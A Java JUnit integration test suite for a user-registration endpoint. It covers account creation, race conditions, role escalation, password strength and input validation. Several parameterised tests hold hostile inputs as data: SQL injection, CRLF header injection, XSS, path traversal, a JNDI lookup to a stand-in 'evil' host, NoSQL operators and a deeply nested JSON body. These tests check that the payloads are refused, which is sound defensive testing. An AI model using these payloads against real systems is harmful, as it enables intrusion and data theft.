package io.darkroom.auth;

import static io.darkroom.auth.testing.AuthClient.PASSWORD;
import static io.darkroom.auth.testing.AuthClient.newEmail;
import static org.assertj.core.api.Assertions.assertThat;

import io.darkroom.auth.testing.Answer;
import io.darkroom.auth.testing.AuthClient;
import io.darkroom.auth.testing.AuthUnderTest;
import io.vertx.core.json.JsonObject;
import java.net.http.HttpRequest.BodyPublishers;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CompletableFuture;
import java.util.stream.IntStream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class RegistrationIT {
  private static final String PATH = "/api/auth/register";
  private static AuthUnderTest auth;
  private static AuthClient client;

  @BeforeAll
  static void start() {
    auth = AuthUnderTest.start(Map.of());
    client = auth.client();
    client.register("first@example.com", PASSWORD).expect(201);
  }

  @AfterAll
  static void stop() {
    auth.close();
  }

  @Test
  void anAccountIsMade() {
    JsonObject body =
        new JsonObject()
            .put("email", "Ada@Example.com")
            .put("password", PASSWORD)
            .put("name", "Ada");
    JsonObject user = client.post(PATH, null, body).expect(201).json();
    assertThat(user.fieldNames())
        .containsExactlyInAnyOrder("id", "email", "name", "role", "createdAt");
    assertThat(user.getString("email")).isEqualTo("ada@example.com");
    assertThat(user.getString("name")).isEqualTo("Ada");
    assertThat(user.getString("role")).isEqualTo("user");
  }

  @Test
  void anAddressIsTakenOnceInAnyCase() {
    String email = newEmail();
    client.register(email, PASSWORD).expect(201);
    client.register(email.toUpperCase(), PASSWORD).expect(409, "conflict");
  }

  @Test
  void oneOfManyFirstAccountsIsAdmin() {
    try (AuthUnderTest fresh = AuthUnderTest.start(Map.of())) {
      List<CompletableFuture<Answer>> racing =
          IntStream.range(0, 8)
              .mapToObj(i -> body(newEmail(), PASSWORD))
              .map(body -> fresh.client().request("POST", PATH, null, body))
              .map(fresh.client()::sendLater)
              .toList();
      assertThat(racing.stream().map(answer -> answer.join().expect(201).text("role")))
          .containsExactlyInAnyOrder(
              "admin", "user", "user", "user", "user", "user", "user", "user");
    }
  }

  @Test
  void oneOfManyWithTheSameAddressGetsIt() {
    String email = newEmail();
    List<CompletableFuture<Answer>> racing =
        IntStream.range(0, 6)
            .mapToObj(i -> client.request("POST", PATH, null, body(email, PASSWORD)))
            .map(client::sendLater)
            .toList();
    assertThat(racing.stream().map(answer -> answer.join().status()))
        .containsExactlyInAnyOrder(201, 409, 409, 409, 409, 409);
  }

  @Test
  void nobodyRegistersAsAdmin() {
    JsonObject body = body(newEmail(), PASSWORD).put("role", "admin").put("disabled", false);
    assertThat(client.post(PATH, null, body).expect(201).text("role")).isEqualTo("user");
  }

  @Test
  void aNameIsMadeUpFromTheAddress() {
    assertThat(client.post(PATH, null, body("grace@example.com", PASSWORD)).text("name"))
        .isEqualTo("grace");
  }

  @ParameterizedTest
  @ValueSource(strings = {"short", "password123", "1234567890", "qwertyuiop", "aaaaaaaaaaaaaaa"})
  void weakPasswordsAreRefused(String password) {
    Answer answer = client.register(newEmail(), password).expect(422, "weak-password");
    assertThat(answer.json().getJsonArray("errors").getJsonObject(0).getString("pointer"))
        .isEqualTo("/password");
  }

  @Test
  void theAddressIsNoPassword() {
    client.register("somebody.else@example.com", "somebody.else@example.com").expect(422);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "' or '1'='1",
        "x'; drop table auth.account; --@example.com",
        "a@example.com\r\nBcc: b@example.com",
        "a@example.com\u0000",
        "<script>alert(1)</script>@example.com",
        "../../etc/passwd",
        "a@",
        "@b",
        "${jndi:ldap://evil/x}@example.com"
      })
  void whatIsNoAddressIsRefused(String email) {
    client.register(email, PASSWORD).expect(400, "invalid-request");
  }

  @ParameterizedTest
  @ValueSource(strings = {"a\r\nSet-Cookie: x=y", "\u0000", "   ", "a\u202eb"})
  void whatCannotBeShownIsNoName(String name) {
    client
        .post(PATH, null, body(newEmail(), PASSWORD).put("name", name))
        .expect(400, "invalid-request");
  }

  @Test
  void sqlInANameIsJustAName() {
    String name = "Robert'); DROP TABLE auth.account;--";
    JsonObject body = body(newEmail(), PASSWORD).put("name", name);
    assertThat(client.post(PATH, null, body).expect(201).text("name")).isEqualTo(name);
    client.register(newEmail(), PASSWORD).expect(201);
  }

  @ParameterizedTest
  @CsvSource({"email, 255", "email, 500000", "password, 1025", "name, 401", "name, 300000"})
  void oversizedFieldsAreRefused(String field, int length) {
    JsonObject body = body(newEmail(), PASSWORD).put(field, "x".repeat(length));
    client.post(PATH, null, body).expect(400, "invalid-request");
  }

  @Test
  void anOversizedBodyIsRefused() {
    JsonObject body = body(newEmail(), PASSWORD).put("more", "x".repeat(2_000_000));
    client.post(PATH, null, body).expect(413, "body-too-large");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "{",
        "[]",
        "null",
        "\"text\"",
        "{}",
        "{\"email\":\"a@example.com\"}",
        "{\"email\":1,\"password\":2}",
        "{\"email\":[\"a@example.com\"],\"password\":\"a quiet evening by the lake\"}",
        "{\"email\":{\"$gt\":\"\"},\"password\":{\"$gt\":\"\"}}",
        "{\"email\":null,\"password\":null}",
        "<xml/>"
      })
  void otherBodiesAreRefused(String body) {
    client
        .send(
            client
                .request("POST", PATH, null, new JsonObject())
                .method("POST", BodyPublishers.ofString(body)))
        .expect(400, "invalid-request");
  }

  @Test
  void deeplyNestedJsonIsRefused() {
    String deep = "[".repeat(100_000) + "]".repeat(100_000);
    client
        .send(
            client
                .request("POST", PATH, null, new JsonObject())
                .method("POST", BodyPublishers.ofString(deep)))
        .expect(400, "invalid-request");
  }

  @ParameterizedTest
  @ValueSource(strings = {"text/plain", "application/x-www-form-urlencoded", "image/png", "x"})
  void otherMediaTypesAreRefused(String type) {
    client
        .send(
            client
                .request("POST", PATH, null, null)
                .method("POST", BodyPublishers.ofString("{}"))
                .header("Content-Type", type))
        .expect(415, "unsupported-media-type");
  }

  private static JsonObject body(String email, String password) {
    return new JsonObject().put("email", email).put("password", password);
  }
}
